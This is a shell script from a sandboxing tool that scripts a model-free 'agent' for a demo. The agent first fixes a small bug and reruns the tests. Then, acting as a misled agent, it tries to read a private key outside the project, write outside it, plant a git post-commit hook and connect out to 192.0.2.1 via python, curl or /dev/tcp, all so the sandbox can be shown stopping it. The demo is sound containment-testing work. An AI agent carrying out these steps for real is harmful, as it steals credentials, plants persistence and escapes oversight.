#!/bin/sh
# SPDX-FileCopyrightText: The Revet developers
# SPDX-License-Identifier: Apache-2.0

# A small agent without a model: it does honest work, and then what a misled agent would try. Everything it
# does is real; what stops it is the box that it runs in. `revet demo` starts it.

say() {
    printf '\nagent: %s\n' "$1"
}

# Says whether an attempt got through, and never fails itself.
attempt() {
    what=$1
    shift
    if "$@" >/dev/null 2>&1; then
        printf '   %s: it worked\n' "$what"
    else
        printf '   %s: it did not work\n' "$what"
    fi
}

write_outside() {
    echo "planted" >>"$REVET_DEMO_OUTSIDE/planted.txt"
}

plant_hook() {
    printf '#!/bin/sh\necho planted\n' >.git/hooks/post-commit
}

send_away() {
    if command -v python3; then
        python3 -c 'import socket; socket.create_connection(("192.0.2.1", 443), 3)'
    elif command -v curl; then
        curl --max-time 3 https://192.0.2.1/
    elif command -v bash; then
        bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'
    else
        getent hosts example.org
    fi
}

say "I read the project."
sed 's/^/   /' README.md

say "I run its tests."
sh test.sh | sed 's/^/   /'

say "Commas are not removed. I fix slug.sh."
sed "s/| tr ' ' '-'/| tr -d ',' | tr ' ' '-'/" slug.sh >slug.sh.new && mv slug.sh.new slug.sh
sed 's/^/   /' slug.sh

say "I run the tests again."
sh test.sh | sed 's/^/   /'

say "Somebody told me to look for keys, to leave something behind, and to send it away."
attempt "read the private key outside the project" cat "$REVET_DEMO_OUTSIDE/private-key"
attempt "write a file outside the project" write_outside
attempt "plant a git hook that runs later" plant_hook
attempt "connect to another machine" send_away

say "I am done."
